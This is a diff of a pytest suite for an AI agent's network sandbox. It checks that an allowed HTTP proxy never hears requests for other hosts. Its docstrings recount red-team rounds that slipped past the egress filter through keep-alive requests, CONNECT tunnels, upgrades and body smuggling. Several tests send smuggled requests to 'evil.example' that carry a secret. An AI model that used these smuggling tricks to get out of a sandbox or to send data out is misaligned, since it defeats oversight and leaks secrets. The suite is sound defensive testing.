@@ -1,8 +1,9 @@
-"""The wall and an allowed proxy (a self-hosted runner's ``HTTPS_PROXY``, listed in
-allowed-domains): every request on a plain HTTP connection names an allowed host, not only
-the first. A red-team session got past the first-request check four ways (a second request on
-a kept-alive connection, a request after an empty line, a method the check did not know); each
-case below made the proxy hear ``evil.example`` on the code before the fix.
+"""The wall and an allowed name that is an HTTP proxy (or any far end that reads HTTP): the far
+end never hears a request for another host. Six red-team rounds each found bytes the relay and
+a far-end reader read differently; each case below made the proxy hear ``evil.example`` on the
+code of its round. Since plain HTTP is terminated (the far end reads only the request the relay
+composes, one a connection, ``Connection: close``), each is refused, or harmless where the
+relay now reads it one way and composes only that (said in the case).
 
 The proxy only records what it is asked and answers every read with a small 200.
 """
@@ -25,7 +26,6 @@ from urllib.parse import urlsplit
 import pytest
 
 from cursor_agent_action.agent.box.net.policy import build_policy
-from tests.agent.test_net_peek import client_hello
 from tests.support.netbox import PREFIX, Emit, connect_by_name, fixed_resolver, run_boxed, servers
 
 pytestmark = pytest.mark.skipif(os.geteuid() != 0 or not sys.platform.startswith("linux"),
@@ -104,6 +104,12 @@ ATTACKS = {
 }
 
 
+NEVER_READ = {"inside a chunked body's end", "both lengths (smuggling)", "keep-alive, then CONNECT",
+              "keep-alive, then an absolute URL", "two requests in one write"}
+"""Harmless now, not refused: the relay answers one request a connection (``Connection:
+close``) and never reads what follows it (h11 frames the first request's body)."""
+
+
 @pytest.mark.parametrize("case", sorted(ATTACKS))
 def test_an_allowed_proxy_hears_no_request_for_another_name(case: str) -> None:
     with servers(recording_proxy) as (proxy,):
@@ -113,10 +119,7 @@ def test_an_allowed_proxy_hears_no_request_for_another_name(case: str) -> None:
         time.sleep(0.2)
         heard = bytes(proxy.received)
     assert b"evil.example" not in heard, heard
-    if case == "after a refused CONNECT, another":
-        # The proxy's 407 reached the agent, and the relay ended the connection there.
-        assert run.result[0].startswith("HTTP/1.1 407")
-        assert run.result[1] in ("", "error [Errno 32] Broken pipe") or "reset" in run.result[1]
+    if case in NEVER_READ:
         return
     refused = run.refused("sni-mismatch")
     assert refused, run.report
@@ -132,96 +135,87 @@ def test_an_allowed_proxy_hears_no_request_for_another_name(case: str) -> None:
 def test_a_request_sent_a_piece_at_a_time_is_checked_before_its_line_ends(
     flights: list[bytes],
 ) -> None:
-    """A first line still open goes on as it comes (a far end acts on no request before its
-    line end: an echo or a line protocol must not wait); its line end only once checked."""
+    """A first line is read to its end before any of it goes on; plain HTTP is then read
+    with h11, the far end hears only the relay's request."""
     with servers(recording_proxy) as (proxy,):
         policy = build_policy([f"{PROXY}:{proxy.port}"])
         run = run_boxed(policy, send_flights(proxy.port, flights),
                         resolve=fixed_resolver({PROXY: ["127.0.0.1"]}))
         time.sleep(0.2)
         heard = bytes(proxy.received)
-    at = heard.find(b"evil.example")
-    assert at < 0 or b"\n" not in heard[at:], heard  # never a whole request for it
+    assert b"evil.example" not in heard, heard
+    if flights[0].startswith(b"GET / "):
+        return  # harmless: the CONNECT after the first request is never read
     assert run.refused("sni-mismatch"), run.report
 
 
-def test_requests_for_the_allowed_name_on_a_kept_alive_connection_all_pass() -> None:
+def test_requests_for_the_allowed_name_pass_each_composed_anew() -> None:
+    """A body by length, a chunked one (its trailer dropped): the far end reads the relay's
+    request with the same method, target and body, ``Connection: close``."""
     body = b"POST /up HTTP/1.1\r\nHost: " + HOST + b"\r\nContent-Length: 5\r\n\r\nhello"
     chunked = (b"POST /c HTTP/1.1\r\nHost: " + HOST + b"\r\nTransfer-Encoding: chunked\r\n\r\n"
                b"5;x=y\r\nhello\r\n0\r\nTrailer: t\r\n\r\n")
+
+    def client(emit: Emit) -> Any:
+        answers = []
+        for request in (GET_PROXY, body, chunked):
+            with connect_by_name(PROXY, proxy.port) as sock:
+                sock.settimeout(3)
+                sock.sendall(request)
+                answer = b""
+                while chunk := sock.recv(65536):
+                    answer += chunk
+                answers.append(answer.decode("latin-1"))
+        return answers
+
     with servers(recording_proxy) as (proxy,):
         policy = build_policy([f"{PROXY}:{proxy.port}"])
-        run = run_boxed(policy, send_flights(proxy.port, [GET_PROXY, body, chunked, GET_PROXY]),
-                        resolve=fixed_resolver({PROXY: ["127.0.0.1"]}))
+        run = run_boxed(policy, client, resolve=fixed_resolver({PROXY: ["127.0.0.1"]}))
         time.sleep(0.2)
-        heard = bytes(proxy.received)
-    assert [a.split("\r\n")[0] for a in run.result] == ["HTTP/1.1 200 OK"] * 4
-    assert heard == GET_PROXY + body + chunked + GET_PROXY
+        heard = bytes(proxy.received).lower()
+    assert [a.split("\r\n")[0] for a in run.result] == ["HTTP/1.1 200 OK"] * 3
+    assert all(a.endswith("\r\n\r\nok") for a in run.result)
+    assert heard.count(b"connection: close") == 3
+    assert b"post /up http/1.1\r\n" in heard
+    assert b"post /c http/1.1\r\n" in heard
+    assert heard.count(b"hello") == 2
+    assert b"trailer" not in heard
     assert run.report.get("refused", []) == []
 
 
-def test_a_connect_the_proxy_accepts_opens_a_tunnel_both_ways_and_what_goes_in_is_checked(
-) -> None:
-    """Inside the tunnel the agent's bytes are a new connection's to the tunnel's far end: a
-    ClientHello for that name goes through; plain HTTP for another host does not (a fourth
-    red-team round: a tunnel to an allowed port 80 fronted any host, unchecked)."""
-    tunnel_proxy = answering(b"HTTP/1.1 200 Connection established\r\n\r\nserver-first",
-                             echo=True)  # then an echo: the tunnel's far end
-    hello = client_hello("api2.cursor.sh")
-    with servers(tunnel_proxy) as (proxy,):
-        policy = build_policy([f"{PROXY}:{proxy.port}", "api2.cursor.sh", "plain.example:80"])
+def test_a_connect_and_a_plain_http_upgrade_are_refused_and_reported() -> None:
+    """Nothing in the box is a proxy, and a plain-HTTP upgrade (but h2c's, which is left out:
+    the answer is HTTP/1.1's) would hand the far end's reader the agent's bytes again (a
+    fourth red-team round: a tunnel to an allowed port 80 fronted any host): both are
+    refused before the far end hears them (``wss://`` is TLS)."""
+    websocket = (b"GET /ws HTTP/1.1\r\nHost: " + HOST + b"\r\nConnection: Upgrade\r\n"
+                 b"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
+                 b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
+    tunnel = b"CONNECT plain.example:80 HTTP/1.1\r\nHost: plain.example:80\r\n\r\n"
 
-        def client(emit: Emit) -> Any:
-            answers = []
-            for target, inside in (("api2.cursor.sh:443", hello),
-                                   ("plain.example:80", b"GET /?k=SECRET HTTP/1.1\r\nHost: "
-                                    b"evil.example\r\n\r\n")):
-                with connect_by_name(PROXY, proxy.port) as sock:
-                    sock.settimeout(3)
-                    sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n"
-                                 .encode())
-                    answer = b""
-                    while b"server-first" not in answer:
-                        answer += sock.recv(200)
-                    sock.sendall(inside)
-                    echoed = b""
-                    try:
-                        while len(echoed) < len(inside) and (chunk := sock.recv(65536)):
-                            echoed += chunk
-                    except OSError:
-                        pass
-                    answers.append(echoed == inside)
-            return answers
-
-        run = run_boxed(policy, client, resolve=fixed_resolver({PROXY: ["127.0.0.1"]}))
-        time.sleep(0.2)
-        heard = bytes(proxy.received)
-    assert run.result == [True, False]
-    assert b"evil.example" not in heard
-    assert run.refused("sni-mismatch")[0]["first"] == "the connection asks for evil.example"
-
-
-def test_an_answer_that_opens_no_tunnel_reaches_the_agent_whole() -> None:
-    """A 200 to an upgrade the far end did not make (curl --http2 to an HTTP/1.1 server): the
-    answer's body too; after it the agent's side sends nothing more on that connection."""
-    no_upgrade = answering(b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\n0123456789")
-    with servers(no_upgrade) as (web,):
-        policy = build_policy([f"{PROXY}:{web.port}"])
-
-        def client(emit: Emit) -> Any:
-            with connect_by_name(PROXY, web.port) as sock:
+    def client(emit: Emit) -> Any:
+        answers = []
+        for request in (websocket, tunnel):
+            with connect_by_name(PROXY, proxy.port) as sock:
                 sock.settimeout(3)
-                sock.sendall(b"GET / HTTP/1.1\r\nHost: " + HOST + b"\r\nConnection: Upgrade, "
-                             b"HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQ"
-                             b"\r\n\r\n")
-                answer = b""
-                while len(answer) < 48 and (chunk := sock.recv(200)):
-                    answer += chunk
-                return answer.decode()
+                sock.sendall(request)
+                try:
+                    answers.append(sock.recv(200).decode("latin-1"))
+                except ConnectionResetError:
+                    answers.append("")
+        return answers
 
+    with servers(answering(b"HTTP/1.1 101 Switching Protocols\r\n\r\n", echo=True)) as (
+            proxy,):
+        policy = build_policy([f"{PROXY}:{proxy.port}", "plain.example:80"])
         run = run_boxed(policy, client, resolve=fixed_resolver({PROXY: ["127.0.0.1"]}))
-    assert run.result.endswith("\r\n\r\n0123456789")
-    assert run.report.get("refused", []) == []
+        time.sleep(0.2)
+    assert run.result == ["", ""]
+    assert bytes(proxy.received) == b""
+    [refused] = run.refused("sni-mismatch")  # the first detail of the destination's two
+    assert refused["first"] == ("an HTTP request refused (a protocol upgrade on plain HTTP "
+                                "(use TLS: wss://, https://))")
+    assert refused["count"] == 2
 
 
 # -- against a real HTTP reader: Python's http.server as a forward proxy is written with it ----
@@ -246,6 +240,9 @@ class _ReadingProxy(BaseHTTPRequestHandler):
 
     def do_GET(self) -> None:
         self._answer(urlsplit(self.path).hostname or self.headers.get("Host"))
+
+    def do_POST(self) -> None:  # its body unread, as a far end that ignores one
+        self.do_GET()
 
     def do_CONNECT(self) -> None:
         self._answer(self.path.rpartition(":")[0])
@@ -299,7 +296,7 @@ def test_another_port_of_the_proxys_own_host_must_be_allowed_too() -> None:
         time.sleep(0.2)
         heard = bytes(proxy.received)
     assert b"2222" not in heard
-    assert run.refused("sni-mismatch")[0]["first"] == f"the connection asks for {PROXY}:2222"
+    assert "a CONNECT" in run.refused("sni-mismatch")[0]["first"]
 
 
 # -- a third red-team round, against the same reader (and node's, where it is installed) -------
@@ -358,11 +355,15 @@ def test_a_refused_line_end_resets_the_far_end_instead_of_ending_the_stream() ->
 
 
 def test_a_body_the_reader_does_not_read_is_never_taken_for_the_next_request() -> None:
+    """Harmless now (it was refused): the relay's request says ``Connection: close``, so a far
+    end that does not read a GET's body closes instead of reading a request in it (also the
+    case docs/network.md listed as left, for a POST)."""
     smuggled = b"GET http://evil.example/?k=SECRET HTTP/1.1\r\nHost: evil.example\r\n\r\n"
-    heard, run = _through_reader([b"GET / HTTP/1.1\r\nHost: " + HOST + b"\r\nContent-Length: "
-                                  + str(len(smuggled)).encode() + b"\r\n\r\n" + smuggled])
-    assert not any("evil.example" in host for host in heard), heard
-    assert run.refused("sni-mismatch"), run.report
+    for method in (b"GET", b"POST"):
+        heard, _ = _through_reader([method + b" / HTTP/1.1\r\nHost: " + HOST
+                                    + b"\r\nContent-Length: " + str(len(smuggled)).encode()
+                                    + b"\r\n\r\n" + smuggled])
+        assert heard == [PROXY], heard
 
 
 def test_a_connect_to_the_proxy_itself_is_refused() -> None:
@@ -372,7 +373,7 @@ def test_a_connect_to_the_proxy_itself_is_refused() -> None:
          b"GET http://evil.example/?k=SECRET HTTP/1.1\r\nHost: evil.example\r\n\r\n"],
         keep_reading_after_connect=True)
     assert heard == []
-    assert "a CONNECT to the proxy itself" in run.refused("sni-mismatch")[0]["first"]
+    assert "a CONNECT" in run.refused("sni-mismatch")[0]["first"]
 
 
 def test_a_byte_over_0x7f_in_a_target_is_refused_and_reported() -> None:
@@ -450,3 +451,28 @@ def test_white_space_and_a_lone_cr_never_make_the_rest_unchecked(flights: list[b
     protocol" to the relay and a request to Python's reader (a CR is a blank to it)."""
     heard, _ = _through_reader(flights)
     assert not any("evil.example" in host for host in heard), heard
+
+
+def test_an_answer_before_the_body_ends_reaches_the_agent_at_once() -> None:
+    """A far end that answers (413) without reading a large body: the answer comes back and
+    the connection ends, the relay does not wait for the rest of the body."""
+    too_large = answering(b"HTTP/1.1 413 Content Too Large\r\nContent-Length: 3\r\n\r\nbig")
+    with servers(too_large) as (web,):
+        policy = build_policy([f"{PROXY}:{web.port}"])
+
+        def client(emit: Emit) -> Any:
+            with connect_by_name(PROXY, web.port) as sock:
+                sock.settimeout(5)
+                sock.sendall(b"POST /up HTTP/1.1\r\nHost: " + HOST + b"\r\nContent-Length: "
+                             b"1000000\r\n\r\n" + b"x" * 1000)
+                started = time.monotonic()
+                answer = b""
+                while chunk := sock.recv(65536):
+                    answer += chunk
+                return [answer.decode("latin-1"), time.monotonic() - started]
+
+        run = run_boxed(policy, client, resolve=fixed_resolver({PROXY: ["127.0.0.1"]}))
+    answer, waited = run.result
+    assert answer.startswith("HTTP/1.1 413")
+    assert answer.endswith("\r\n\r\nbig")
+    assert waited < 3
